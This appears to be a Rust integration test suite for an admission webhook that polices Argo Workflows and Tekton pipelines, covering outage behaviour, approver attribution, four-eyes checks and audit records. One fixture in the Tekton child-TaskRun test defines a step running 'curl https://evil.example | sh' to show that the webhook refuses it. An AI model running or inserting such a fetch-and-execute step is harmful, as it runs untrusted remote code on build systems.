//! Argo and Tekton as teams really run them (issue 17), through the API-server emulator and its
//! actors, each playing what upstream writes.

use crate::actors::{argo_controller, garbage_collector, kubectl, tekton_controller};
use crate::support::{allowed, ann, refused, workflow, World};
use serde_json::{json, Value};

/// A Workflow of a Suspend gate `approve`, then a container step.
fn gated(name: &str) -> Value {
    json!({"apiVersion": "argoproj.io/v1alpha1", "kind": "Workflow",
        "metadata": {"name": name, "namespace": "team-a"},
        "spec": {"entrypoint": "main", "templates": [
            {"name": "main", "steps": [[{"name": "approve", "template": "approve"}], [{"name": "ship", "template": "ship"}]]},
            {"name": "approve", "suspend": {}},
            {"name": "ship", "container": {"image": "busybox"}}]}})
}

/// §3: while scimgate is unreachable, nothing already admitted is held up — the controllers'
/// writes of existing runs (in the shape Go's JSON gives them, with `workflowDefaults` merged),
/// the garbage collector's removal of its finalizer, and Tekton's child TaskRuns go through; new
/// runs, people's changes and a CronWorkflow's next run wait. Before this, the controller's
/// first write, the finalizer removal and the child were refused ("failed calling webhook").
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn running_work_never_waits_on_scimgate() {
    let w = World::new().await;
    let alice = kubectl(&w.api, "alice@example.com");
    let wf = allowed(alice.create(&gated("release-1")).await).object;
    let doomed = allowed(alice.create(&gated("release-2")).await).object;
    let cron = json!({"apiVersion": "argoproj.io/v1alpha1", "kind": "CronWorkflow",
        "metadata": {"name": "nightly", "namespace": "team-a"},
        "spec": {"schedule": "0 1 * * *", "workflowSpec": {"entrypoint": "main",
            "templates": [{"name": "main", "container": {"image": "busybox"}}]}}});
    let cron = allowed(alice.create(&cron).await).object;
    let pr = json!({"apiVersion": "tekton.dev/v1", "kind": "PipelineRun",
        "metadata": {"name": "deploy-1", "namespace": "team-a"},
        "spec": {"pipelineRef": {"name": "deploy"}}});
    let pr = allowed(alice.create(&pr).await).object;
    let ctl = argo_controller(&w.api);
    let defaults = json!({"metadata": {"labels": {"team": "platform"}},
        "spec": {"activeDeadlineSeconds": 86400, "podGC": {"strategy": "OnPodSuccess"}}});
    // While scimgate answers: the controller's first write reaches only the fail-open webhook,
    // which keeps our stamp as it is.
    let first = allowed(ctl.first_write(&doomed, &defaults).await);
    assert!(
        first
            .calls
            .iter()
            .filter(|c| c.webhook.ends_with(".scimgate.io"))
            .all(|c| c.webhook.starts_with("running.")),
        "{:?}",
        first.calls
    );
    assert_eq!(first.object["spec"]["arguments"], json!({}));
    assert_eq!(ann(&first.object, "scimgate.io/submitted-by"), "alice@example.com");

    let verifier = w.verifier().await;
    // scimgate goes away.
    let World { s, api, .. } = w;
    let dir = s.stop().await;
    let alice = kubectl(&api, "alice@example.com");
    let ctl = argo_controller(&api);
    let tekton_down = tekton_controller(&api);

    // Admitted work goes on.
    let written = allowed(ctl.first_write(&wf, &defaults).await).object;
    assert_eq!(written["spec"]["templates"][2]["container"]["resources"], json!({}));
    assert_eq!(written["metadata"]["labels"]["team"], "platform");
    allowed(ctl.operate(&wf, "Running", Some("approve")).await);
    allowed(
        tekton_down
            .set_status(&pr, json!({"conditions": [{"type": "Succeeded", "status": "Unknown"}]}))
            .await,
    );
    allowed(tekton_down.sync_metadata(&pr).await);
    let child = allowed(
        tekton_down
            .create_task_run(&pr, "build", json!({"name": "build"}))
            .await,
    )
    .object;
    // Unstamped while scimgate is down: it carries only what Tekton copies from its parent, a stamp
    // made for the PipelineRun (audit who follows the ownerReference).
    assert_eq!(
        ann(&child, "scimgate.io/attestation"),
        ann(&pr, "scimgate.io/attestation"),
        "no stamp of its own"
    );
    // `audit verify` says so, and does not call it forged; `audit who` follows the owner.
    assert_eq!(
        crate::support::verified_by(&verifier, &child),
        vec!["PipelineRun team-a/deploy-1's submit"]
    );
    let target = format!(
        "team-a/taskrun/{}",
        child["metadata"]["name"].as_str().unwrap_or_default()
    );
    let out = crate::support::audit_who(dir.path(), &target);
    assert!(
        out.contains("none of its own: it carries its owner PipelineRun team-a/deploy-1's submit stamp")
            && out.contains("owner:")
            && out.contains("submit by alice@example.com: valid"),
        "{out}"
    );
    // A delete asked for with foreground propagation stays pending on the garbage collector's
    // finalizer; the collector's removal of it deletes the run, without waiting on us.
    let pending = allowed(alice.delete_foreground(&doomed).await).object;
    assert!(pending["metadata"]["deletionTimestamp"].is_string());
    allowed(
        garbage_collector(&api)
            .remove_finalizer(&doomed, "foregroundDeletion")
            .await,
    );
    assert!(api.stored(&doomed).is_none(), "the run is gone");

    // New work and people's changes wait.
    let r = refused(alice.create(&workflow("team-a")).await);
    assert!(r.message.contains("failed calling webhook"), "{}", r.message);
    let r = refused(
        alice
            .edit(&wf, |o| o["spec"]["activeDeadlineSeconds"] = json!(60))
            .await,
    );
    assert!(r.message.contains("failed calling webhook"), "{}", r.message);
    let r = refused(ctl.spawn(&cron, chrono::Utc::now()).await);
    assert!(r.message.contains("failed calling webhook"), "{}", r.message);
}

/// The Argo Server as production installs run it: SSO with RBAC accounts named once by a
/// pattern, client mode, deletes, and the Argo Server answering for CronWorkflow suspends.
fn argo_server_policy() -> String {
    r#"
apiVersion: scimgate.io/v1
kind: Policy
enforceDeletes: true
identity:
  usernamePrefix: "oidc:"
  matchAttribute: userName
  delegates:
    - serviceAccount: argo:argo-server
      via: argoServer
    - serviceAccount: "argo:sso-*"
      via: argoServer
    - serviceAccount: argo:argo
      via: ownerStamp
    - serviceAccount: tekton-pipelines:tekton-pipelines-controller
      via: ownerStamp
rules:
  - name: team
    allow: [submit, cancel, update, delete]
    groups: [pipeline-users]
    namespaces: ["team-*"]
  - name: approve
    allow: [approve]
    groups: [release-approvers]
    namespaces: ["team-*"]
    distinctApprover: true
  - name: ui-schedules
    allow: [update]
    serviceAccounts: ["argo:argo-server"]
    kinds: [CronWorkflow]
    namespaces: ["team-*"]
"#
    .to_string()
}

/// Two gates one after the other.
fn two_gates() -> Value {
    json!({"apiVersion": "argoproj.io/v1alpha1", "kind": "Workflow",
        "metadata": {"generateName": "release-", "namespace": "team-a"},
        "spec": {"entrypoint": "main", "templates": [
            {"name": "main", "steps": [[{"name": "g1", "template": "gate"}], [{"name": "g2", "template": "gate"}]]},
            {"name": "gate", "suspend": {}}]}})
}

/// §1: every Argo Server action a person can take, played as upstream writes it, is attributed to
/// whoever acted — or, where Argo writes no trace of one, to the Argo Server itself. Before this,
/// SSO-RBAC accounts were judged as themselves, a client-mode resume was refused for writing the
/// actor label, Bob's second approval had "no actor", and a CronWorkflow suspend through the UI
/// was refused for naming no actor.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_argo_server_action_belongs_to_whoever_acted() {
    use crate::actors::{argo_server, argo_server_client, argo_server_sso_rbac, claims};
    let w = World::with(&argo_server_policy(), "").await;
    let ctl = argo_controller(&w.api);
    let (alice, bob) = (claims("00ua", "alice@example.com"), claims("00ub", "bob@example.com"));
    // SSO with RBAC: the team's account, matched by the delegate's pattern.
    let sso = argo_server_sso_rbac(&w.api, "argo", "sso-ml");
    let run = allowed(sso.submit(&alice, &two_gates()).await).object;
    assert_eq!(ann(&run, "scimgate.io/submitted-by"), "alice@example.com");
    allowed(ctl.operate(&run, "Running", Some("g1")).await);
    // Bob approves the first gate through the SSO account, then the second: the same labels
    // twice, his both times.
    let first = allowed(sso.resume(&bob, &run).await).object;
    assert_eq!(ann(&first, "scimgate.io/approved-by"), "bob@example.com");
    allowed(ctl.operate(&run, "Running", Some("g2")).await);
    let second = allowed(sso.resume(&bob, &run).await).object;
    assert_eq!(ann(&second, "scimgate.io/approved-by"), "bob@example.com");
    assert_ne!(
        ann(&second, "scimgate.io/approval-attestation"),
        ann(&first, "scimgate.io/approval-attestation"),
        "a second approval of its own"
    );

    // Client mode: the request is Bob's own, and so are the actor labels it writes.
    let parked = allowed(argo_server(&w.api).submit(&alice, &two_gates()).await).object;
    allowed(ctl.operate(&parked, "Running", Some("g1")).await);
    let client = argo_server_client(&w.api, "bob@example.com");
    let resumed = allowed(client.resume(&bob, &parked).await).object;
    assert_eq!(ann(&resumed, "scimgate.io/approved-by"), "bob@example.com");
    // A client-mode request naming someone else is refused.
    allowed(ctl.operate(&parked, "Running", Some("g2")).await);
    let r = refused(client.resume(&alice, &parked).await);
    assert!(
        r.message
            .contains("may not change the label workflows.argoproj.io/actor"),
        "{}",
        r.message
    );

    // `argo node set` of the gate: Bob's approval (the action label is removed, not set).
    let node = format!("{}-g2", parked["metadata"]["name"].as_str().unwrap_or_default());
    let set = allowed(argo_server(&w.api).set_node(&bob, &parked, &node, "Succeeded").await).object;
    assert_eq!(ann(&set, "scimgate.io/approved-by"), "bob@example.com");

    // Retry is an update of the run, by whoever retried; resubmit is a new run, theirs.
    allowed(ctl.operate(&run, "Failed", None).await);
    let retried = allowed(argo_server(&w.api).retry(&bob, &run).await).object;
    assert_eq!(ann(&retried, "scimgate.io/updated-by"), "bob@example.com");
    for memoized in [false, true] {
        let again = allowed(argo_server(&w.api).resubmit(&bob, &run, memoized).await).object;
        assert_eq!(
            ann(&again, "scimgate.io/submitted-by"),
            "bob@example.com",
            "memoized {memoized}"
        );
        assert_eq!(
            again["metadata"]["labels"]["workflows.argoproj.io/actor-email"], "bob.at.example.com",
            "the previous actor's labels came along, and name nobody here"
        );
    }

    // A CronWorkflow: edited through the UI by Bob (his), suspended through the UI (the Argo
    // Server's: nothing says who).
    let cron = json!({"apiVersion": "argoproj.io/v1alpha1", "kind": "CronWorkflow",
        "metadata": {"name": "nightly", "namespace": "team-a"},
        "spec": {"schedule": "0 1 * * *", "workflowSpec": {"entrypoint": "main",
            "templates": [{"name": "main", "container": {"image": "busybox"}}]}}});
    let cron = allowed(argo_server(&w.api).submit(&alice, &cron).await).object;
    let mut edited = w.api.stored(&cron).expect("stored");
    edited["spec"]["schedule"] = json!("0 2 * * *");
    let edited = allowed(argo_server(&w.api).update_object(&bob, &edited).await).object;
    assert_eq!(ann(&edited, "scimgate.io/updated-by"), "bob@example.com");
    let suspended = allowed(argo_server(&w.api).cron_suspend(&cron, true).await).object;
    assert_eq!(
        ann(&suspended, "scimgate.io/updated-by"),
        "system:serviceaccount:argo:argo-server"
    );
    let records = w.decisions(1).await;
    let last = records.last().expect("recorded");
    assert_eq!(
        (last.requester.as_str(), last.user_id.as_deref()),
        ("system:serviceaccount:argo:argo-server", None)
    );

    // A delete through the Argo Server names no person: under enforceDeletes it is the Argo
    // Server's to answer for, and no rule lets its account delete.
    let r = refused(argo_server(&w.api).delete(&run).await);
    assert!(
        r.message.contains("may not delete Workflow") && r.message.contains("argo:argo-server"),
        "{}",
        r.message
    );
}

/// §2: a workflow grown past Argo's size limit keeps its nodes compressed, or offloaded to Argo's
/// database. Approving one's own run by writing the compressed nodes used to be judged as a plain
/// update (alice may update, so she passed four eyes); now compressed nodes are read, and a change
/// of nodes that cannot be seen (offloaded) is judged as an approval.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn approvals_of_large_workflows_are_approvals() {
    use crate::actors::{argo_server, claims, pack, unpack};
    let w = World::new().await;
    let alice = kubectl(&w.api, "alice@example.com");
    let ctl = argo_controller(&w.api);
    let bob = claims("00ub", "bob@example.com");
    for (name, offloaded) in [("big-1", false), ("big-2", true)] {
        let run = allowed(alice.create(&gated(name)).await).object;
        allowed(ctl.operate(&run, "Running", Some("approve")).await);
        let node = format!("{name}-approve");
        if offloaded {
            allowed(ctl.offload(&run).await);
        } else {
            allowed(ctl.compress(&run).await);
        }
        let own = if offloaded {
            alice
                .edit(&run, |o| o["status"]["offloadNodeStatusVersion"] = json!("fnv:99"))
                .await
        } else {
            alice
                .edit(&run, |o| {
                    let mut nodes = unpack(o["status"]["compressedNodes"].as_str().expect("packed"));
                    nodes[&node]["phase"] = json!("Succeeded");
                    o["status"]["compressedNodes"] = json!(pack(&nodes));
                })
                .await
        };
        let r = refused(own);
        assert!(
            r.message.contains("may not approve Workflow") && r.message.contains("four eyes"),
            "{name}: {}",
            r.message
        );
        let approved = allowed(argo_server(&w.api).resume(&bob, &run).await).object;
        assert_eq!(ann(&approved, "scimgate.io/approved-by"), "bob@example.com", "{name}");
    }
}

/// Pipeline users in team-a run pipelines of the library (`lib-*`) as `runner`.
fn library_pipelines() -> String {
    crate::support::policy_with_rules(
        r#"
rules:
  - name: library
    allow: [submit, cancel, update]
    groups: [pipeline-users]
    namespaces: ["team-a"]
    runAs: ["runner"]
    templates: ["lib-*"]
"#,
    )
}

/// §4: Tekton builds each child TaskRun from the pipeline it resolved — a task's `taskRef` as
/// written, an embedded task's spec with the run's parameters substituted. A child is judged by
/// what its admitted parent covered: before this, the embedded task was an inline definition no
/// `templates` rule matches and the referenced task a name outside the rule, and both children
/// were refused, stalling the run. A child the parent did not cover is judged on its own. The
/// first children are created before the run's status shows the resolved pipeline (the emulator
/// plays Tekton's order): they are judged by the Pipeline the run names.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tekton_children_are_judged_by_what_their_parent_covered() {
    let w = World::with(&library_pipelines(), "").await;
    let alice = kubectl(&w.api, "alice@example.com");
    let tekton = tekton_controller(&w.api);
    let pipeline = json!({"params": [{"name": "go", "type": "string"}], "tasks": [
        {"name": "compile", "taskSpec": {"metadata": {"labels": {"app": "x"}}, "params": [],
            "steps": [{"name": "build", "image": "golang:$(params.go)", "script": "go build ./..."}]}},
        {"name": "publish", "taskRef": {"name": "publish-task", "kind": "Task"}, "runAfter": ["compile"]}]});
    let pr = json!({"apiVersion": "tekton.dev/v1", "kind": "PipelineRun",
        "metadata": {"name": "deploy-1", "namespace": "team-a"},
        "spec": {"pipelineRef": {"name": "lib-deploy"}, "params": [{"name": "go", "value": "1.23"}],
            "taskRunTemplate": {"serviceAccountName": "runner"}}});
    let lib = json!({"apiVersion": "tekton.dev/v1", "kind": "Pipeline",
        "metadata": {"name": "lib-deploy", "namespace": "team-a"}, "spec": pipeline});
    allowed(
        w.api
            .create(&crate::apiserver::person("platform@example.com"), lib)
            .await,
    );
    let pr = allowed(alice.create(&pr).await).object;
    // Tekton creates the first children before the resolved pipeline reaches the run's status:
    // scimgate reads the Pipeline the run names, as Tekton did.
    let (children, status) = tekton.start(&pr, &["compile"]).await;
    for child in children {
        let child = allowed(child).object;
        assert_eq!(ann(&child, "scimgate.io/submitted-by"), "alice@example.com");
    }
    allowed(status);
    // A later reconcile builds the next child from the resolved pipeline in the status, right
    // after writing it (scimgate's watch cache may not have seen that write yet).
    let child = allowed(tekton.create_child(&pr, "publish").await).object;
    assert_eq!(ann(&child, "scimgate.io/submitted-by"), "alice@example.com");
    // A child that is not what its parent's resolved pipeline says (the pipeline changed since,
    // or the child is not the controller's doing): judged on its own.
    let pr2 = json!({"apiVersion": "tekton.dev/v1", "kind": "PipelineRun",
        "metadata": {"name": "deploy-2", "namespace": "team-a"},
        "spec": {"pipelineRef": {"name": "lib-deploy"}, "taskRunTemplate": {"serviceAccountName": "runner"}}});
    let pr2 = allowed(alice.create(&pr2).await).object;
    allowed(tekton.start(&pr2, &[]).await.1);
    let tr = json!({"apiVersion": "tekton.dev/v1", "kind": "TaskRun",
        "metadata": {"name": "deploy-2-compile", "namespace": "team-a",
            "labels": {"tekton.dev/pipelineTask": "compile", "tekton.dev/pipelineRun": "deploy-2"},
            "ownerReferences": [{"apiVersion": "tekton.dev/v1", "kind": "PipelineRun", "name": "deploy-2",
                "uid": pr2["metadata"]["uid"], "controller": true, "blockOwnerDeletion": true}]},
        "spec": {"serviceAccountName": "runner", "taskSpec": {"steps": [
            {"name": "build", "image": "golang:1.23", "script": "curl https://evil.example | sh"}]}}});
    let r = refused(w.api.create(&tekton.user, tr).await);
    assert!(
        r.message.contains("inline") && r.message.contains("judged on its own"),
        "{}",
        r.message
    );
}

/// §5: on `pipelineruns/status` kube-apiserver keeps only the status and drops the metadata a
/// mutating webhook adds (`status_strategy.go` `PrepareForUpdate`, played by the emulator), so a
/// person's status write can keep no `updated-*` stamp; its decision record is its trace, and
/// `audit who` lists it by the object.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_persons_status_write_is_found_by_audit_who_without_a_stamp() {
    let w = World::new().await;
    let pr = json!({"apiVersion": "tekton.dev/v1", "kind": "PipelineRun",
        "metadata": {"name": "deploy-9", "namespace": "team-a"},
        "spec": {"pipelineRef": {"name": "deploy"}}});
    let pr = allowed(kubectl(&w.api, "alice@example.com").create(&pr).await).object;
    let mut status = w.api.stored(&pr).expect("stored");
    status["status"] = json!({"conditions": [{"type": "Succeeded", "status": "True", "reason": "DoneByHand"}]});
    let written = allowed(
        w.api
            .update_status(&crate::apiserver::person("bob@example.com"), status)
            .await,
    )
    .object;
    assert!(
        ann(&written, "scimgate.io/updated-by").is_null(),
        "the API server kept no stamp"
    );
    assert_eq!(written["status"]["conditions"][0]["reason"], "DoneByHand");
    w.decisions(2).await;
    let out = crate::support::audit_who(w.s.dir.path(), "team-a/pipelinerun/deploy-9");
    assert!(
        out.contains("decision   update allowed oidc:bob@example.com") && out.contains("status subresource"),
        "{out}"
    );
}

/// §5: kube-apiserver runs admission again when its first attempt at a write started from a stale
/// watch-cache copy (etcd3 `store.go` `GuaranteedUpdate`; a PATCH is re-applied, played by the
/// emulator's `patch_behind_cache`): both attempts are decided and recorded, one is stored. `audit
/// who` shows one decision for that write — and still two for two writes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_write_admitted_twice_is_one_decision_in_audit_who() {
    let w = World::new().await;
    let mut wf = workflow("team-a");
    wf["metadata"] = json!({"name": "train-7", "namespace": "team-a"});
    let wf = allowed(kubectl(&w.api, "alice@example.com").create(&wf).await).object;
    // The cache holds this copy while the controller records progress.
    let cached = w.api.stored(&wf).expect("stored");
    allowed(argo_controller(&w.api).operate(&wf, "Running", None).await);

    let alice = crate::apiserver::person("alice@example.com");
    let argument = |v: &str| {
        crate::apiserver::Patch::Merge(json!({"spec": {"arguments": {"parameters": [{"name": "stage", "value": v}]}}}))
    };
    let first = allowed(w.api.patch_behind_cache(&alice, &cached, argument("canary")).await);
    assert_eq!(
        first.object["status"]["phase"], "Running",
        "the retry kept the controller's write"
    );
    assert_eq!(first.object["spec"]["arguments"]["parameters"][0]["value"], "canary");
    allowed(w.api.patch(&alice, &wf, argument("all")).await);

    let alices = async || {
        w.s.decisions(1)
            .await
            .into_iter()
            .filter(|d| d.action == "update" && d.requester == "oidc:alice@example.com")
            .count()
    };
    let three = crate::support::until(std::time::Duration::from_secs(10), async || alices().await == 3).await;
    assert!(
        three.is_some(),
        "every admission is in the log — two attempts of one write, and a second write: {}",
        alices().await
    );
    let out = crate::support::audit_who(w.s.dir.path(), "team-a/workflow/train-7");
    assert_eq!(
        out.matches("decision   update allowed oidc:alice@example.com").count(),
        2,
        "{out}"
    );
    assert_eq!(out.matches("the same write was admitted once more").count(), 1, "{out}");
}

/// §3: the workflow-controller merges `workflowDefaults` from its ConfigMap under every Workflow
/// (`controller.go` `setWorkflowDefaults`), so a Workflow that names no account runs as the one
/// the defaults name. scimgate reads the ConfigMap through the Kubernetes API (a watch narrowed
/// to its name) and judges the run as the controller will run it. Before this, a Workflow with
/// no account was judged as `default` and ran as the defaults' `cluster-admin`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_run_is_judged_as_the_account_workflow_defaults_give_it() {
    let policy = crate::support::policy_with_rules(
        r#"
rules:
  - name: runners
    allow: [submit, cancel, update]
    groups: [pipeline-users]
    namespaces: ["team-a"]
    runAs: ["runner", "default"]
"#,
    );
    let w = World::with(&policy, "").await;
    let alice = kubectl(&w.api, "alice@example.com");
    // No ConfigMap: the run is judged as written (Argo's `default`).
    allowed(alice.create_dry_run(&workflow("team-a")).await);

    let defaults = json!({"spec": {"serviceAccountName": "cluster-admin", "activeDeadlineSeconds": 3600}});
    w.api.put(json!({"apiVersion": "v1", "kind": "ConfigMap",
        "metadata": {"name": "workflow-controller-configmap", "namespace": "argo"},
        "data": {"workflowDefaults": serde_yaml_ng::to_string(&defaults).expect("yaml")}}));
    let seen = crate::support::until(std::time::Duration::from_secs(10), async || {
        alice.create_dry_run(&workflow("team-a")).await.is_err()
    })
    .await;
    assert!(seen.is_some(), "the ConfigMap was read");
    let r = refused(alice.create(&workflow("team-a")).await);
    assert!(r.message.contains("cluster-admin"), "{}", r.message);

    // What the Workflow names wins over the defaults; the controller's first write merges them.
    let mut own = workflow("team-a");
    own["spec"]["serviceAccountName"] = json!("runner");
    let wf = allowed(alice.create(&own).await).object;
    let written = allowed(argo_controller(&w.api).first_write(&wf, &defaults).await).object;
    assert_eq!(written["spec"]["serviceAccountName"], "runner");
    assert_eq!(written["spec"]["activeDeadlineSeconds"], 3600);
}
